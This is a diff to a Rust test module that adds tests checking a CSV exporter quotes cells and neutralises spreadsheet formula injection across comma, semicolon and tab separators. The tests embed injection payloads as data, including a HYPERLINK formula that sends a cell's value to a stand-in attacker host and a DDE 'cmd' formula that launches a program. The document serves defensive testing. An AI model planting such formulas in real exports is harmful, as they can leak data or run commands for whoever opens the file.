@@ -209,13 +209,7 @@ mod tests {
     }
 
     fn parse(csv: &str) -> Vec<Vec<String>> {
-        csv::ReaderBuilder::new()
-            .has_headers(false)
-            .flexible(true)
-            .from_reader(csv.as_bytes())
-            .records()
-            .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
-            .collect()
+        parse_with(csv, b',')
     }
 
     proptest! {
@@ -382,6 +376,121 @@ mod tests {
         // The quoting itself: a quote inside a cell is doubled, the cell is wrapped.
         assert!(device_kbs_csv(&raw_kbs)
             .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
+    }
+
+    /// A separator a spreadsheet may split on: the file's own comma, and the list separators
+    /// of other locales (`;` in Dutch or German Excel, tab when pasted).
+    const SEPARATORS: [u8; 3] = [b',', b';', b'\t'];
+
+    /// `csv` read as a spreadsheet whose list separator is `separator` reads it.
+    fn parse_with(csv: &str, separator: u8) -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .delimiter(separator)
+            .from_reader(csv.as_bytes())
+            .records()
+            .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    /// Whether a spreadsheet would evaluate `cell`: a formula character first once leading
+    /// whitespace is skipped, or a tab or carriage return first (OWASP's list).
+    fn starts_a_formula(cell: &str) -> bool {
+        cell.starts_with(['\t', '\r'])
+            || cell
+                .trim_start()
+                .starts_with(['=', '+', '-', '@', '\t', '\r'])
+    }
+
+    /// Cells an attacker would pick: separators of every locale, quotes, line breaks,
+    /// whitespace before a formula, and anything else.
+    fn hostile_cell() -> impl Strategy<Value = String> {
+        prop_oneof![
+            3 => "[a-z,;\t\r\n\" =+@'-]{0,12}",
+            1 => "\\PC{0,12}",
+            1 => "[ \t\r\n\u{a0}\u{3000}]{0,3}[=+@-][a-z(),;\"]{0,6}",
+        ]
+    }
+
+    #[test]
+    fn every_field_is_quoted() {
+        assert_eq!(
+            write_csv(&["KB", "Update"], [["KB1", ""], ["1", "a\"b"]]),
+            "\"KB\",\"Update\"\r\n\"KB1\",\"\"\r\n\"1\",\"a\"\"b\"\r\n"
+        );
+    }
+
+    #[test]
+    fn a_semicolon_list_separator_does_not_split_a_cell_into_a_formula() {
+        // The update name is the second column: a reader splitting on `;` is past the first
+        // cell's closing quote there, so the quotes around this one no longer protect it.
+        for cell in [
+            "x;=HYPERLINK(\"http://evil\")",
+            "x;=HYPERLINK(A1)",
+            "x;=cmd|' /C calc'!A0",
+        ] {
+            let csv = device_kbs_csv(&[kb("1", cell, &[], 1)]);
+            let table = parse_with(&csv, b';');
+            for row in &table {
+                for parsed in row {
+                    assert!(!starts_a_formula(parsed), "{parsed:?} in {csv:?}");
+                }
+            }
+            // Alone on its line, it is one cell under `;` as under `,`.
+            let alone = write_csv(&["Update"], [[cell]]);
+            assert_eq!(
+                parse_with(&alone, b';')[1],
+                [neutralise(cell).into_owned()],
+                "{alone:?}"
+            );
+        }
+        assert_eq!(neutralise("x;=HYPERLINK(A1)"), "x;'=HYPERLINK(A1)");
+    }
+
+    #[test]
+    fn whitespace_before_a_formula_does_not_hide_it() {
+        for cell in [
+            "  =cmd",
+            "\t=cmd",
+            "\r\n=cmd",
+            " +1",
+            "\u{a0}@SUM(A1)",
+            " -1",
+        ] {
+            assert!(neutralise(cell).starts_with('\''), "{cell:?}");
+        }
+        assert_eq!(neutralise("  =cmd"), "'  =cmd");
+        assert_eq!(neutralise("a b"), "a b");
+    }
+
+    proptest! {
+        /// Read back with the file's comma, every record is the cells written (neutralised);
+        /// read by a spreadsheet splitting on `;` or tab instead, a cell alone on its line is
+        /// still that cell, and however a record falls apart no part starts a formula.
+        #[test]
+        fn no_separator_turns_any_part_of_a_cell_into_a_formula(
+            rows in proptest::collection::vec(proptest::collection::vec(hostile_cell(), 1..5), 0..6),
+        ) {
+            let header = ["one", "two"];
+            let csv = write_csv(&header, rows.iter());
+            let mut expected = vec![header.iter().map(|h| h.to_string()).collect::<Vec<_>>()];
+            expected.extend(
+                rows.iter()
+                    .map(|row| row.iter().map(|c| neutralise(c).into_owned()).collect()),
+            );
+            prop_assert_eq!(parse_with(&csv, b','), expected);
+            for separator in SEPARATORS {
+                for cell in parse_with(&csv, separator).iter().flatten() {
+                    prop_assert!(!starts_a_formula(cell), "{:?} under {:?} in {:?}", cell, separator as char, csv);
+                }
+                for cell in rows.iter().flatten() {
+                    let alone = write_csv(&["one"], [[cell]]);
+                    let table = parse_with(&alone, separator);
+                    prop_assert_eq!(&table[1], &[neutralise(cell).into_owned()], "{:?}", alone);
+                }
+            }
+        }
     }
 
     proptest! {
